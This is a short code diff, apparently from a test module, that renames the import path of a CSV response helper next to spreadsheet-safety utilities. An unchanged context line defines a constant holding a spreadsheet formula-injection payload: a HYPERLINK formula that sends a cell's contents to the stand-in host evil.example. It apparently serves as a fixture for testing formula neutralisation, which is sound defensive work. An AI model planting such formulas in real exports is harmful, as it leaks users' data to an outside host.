@@ -15,7 +15,7 @@ from bdhvs_shared.spreadsheet_safety import neutralised, starts_a_formula
 from intake.adapters import spreadsheets
 from intake.adapters.spreadsheets import TemplateRow
 from intake.domain.tabular import columns
-from kpi.routes.formats import csv_response
+from kpi.entrypoints.http.formats import csv_response
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 CATALOGUE = load_catalogue()
